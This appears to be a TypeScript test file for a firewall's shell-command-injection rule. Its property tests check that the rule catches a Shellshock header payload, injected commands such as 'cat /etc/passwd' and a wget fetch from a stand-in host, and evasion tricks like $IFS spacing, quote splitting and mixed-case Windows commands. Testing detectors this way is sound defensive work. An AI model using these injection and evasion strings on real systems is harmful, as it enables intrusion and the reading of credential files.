import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import type { Zone } from '../../waf.ts';
import vectors from '../testdata/shell.json' with { type: 'json' };
import { slowest, trial } from '../trial.ts';
import { shell } from './shell.ts';

const { stops, passes } = vectors;

describe('commands of shells', () => {
  for (const [name, rows] of Object.entries(stops))
    test(`stops ${name}`, () => {
      const missed = rows.filter(row => trial(shell, row).points < 5);
      assert.deepEqual(missed, []);
    });

  for (const [name, rows] of Object.entries(passes))
    test(`passes ${name}`, () => {
      const wrong = rows.filter(row => trial(shell, row).points > 0).map(row => [row, trial(shell, row).rules]);
      assert.deepEqual(wrong, []);
    });

  test('stops Shellshock in headers', () => {
    for (const zone of ['header', 'cookie'] satisfies Zone[])
      assert.equal(trial(shell, '() { :; }; /bin/id', { zone, name: 'user-agent' }).points >= 5, true);
  });

  test('still stops a command after the usual mutations', () => {
    const command = fc.constantFrom(
      'cat /etc/passwd',
      'wget http://x.example/a.sh',
      'ping -c 3 127.0.0.1',
      'uname -a',
      'chmod 777 /tmp/x',
    );
    const separator = fc.constantFrom(';', '|', '||', '&&', '; ', ' | ', '\n', ' && ', '$(', '`');
    const blank = fc.constantFrom(' ', '\t', '  ', '$IFS$9', '${IFS}');
    fc.assert(
      fc.property(
        command,
        separator,
        blank,
        fc.nat(2),
        fc.constantFrom('', "''", '""', '$@', '\\'),
        (line, join, gap, place, trick) => {
          const [head = '', ...rest] = line.split(' ');
          const hidden = head.slice(0, place + 1) + trick + head.slice(place + 1);
          return trial(shell, `1${join}${[hidden, ...rest].join(gap)}${join === '`' ? '`' : ''}`).points >= 5;
        },
      ),
    );
  });

  test('takes the case of Windows commands as it comes', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('whoami', 'ipconfig', 'systeminfo', 'tasklist'),
        fc.array(fc.boolean(), { minLength: 12, maxLength: 12 }),
        (name, ups) =>
          trial(
            shell,
            `& ${name
              .split('')
              .map((one, at) => (ups[at] === true ? one.toUpperCase() : one))
              .join('')}`,
          ).points >= 5,
      ),
    );
  });

  test('never throws, whatever the text', () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 12 }),
      fc.constantFrom(
        ';',
        '|',
        '$(',
        '`',
        '${',
        '}',
        "'",
        '"',
        '\\',
        '%',
        '{cat,',
        'id',
        ' ',
        '\n',
        '^',
        '$IFS',
        '/???/',
        '(',
        ')',
        '=',
        '<',
      ),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 40 }),
        parts => trial(shell, parts.join(''), { paranoia: 4 }).points >= 0,
      ),
      { numRuns: 1500 },
    );
  });

  test('takes time in proportion to the text', () => {
    assert.deepEqual(
      slowest(shell, [
        ';',
        '`',
        '$(',
        ';a=b',
        "|''",
        '${',
        ';{a,',
        '/???/?',
        '&cat ',
        '\n. ',
        '%a',
        '(){ ',
        'sudo ',
        '$a',
        ";'",
        ';/*/*',
        'cmd ',
        '<(',
        '$IFS',
      ]),
      [],
    );
  });
});
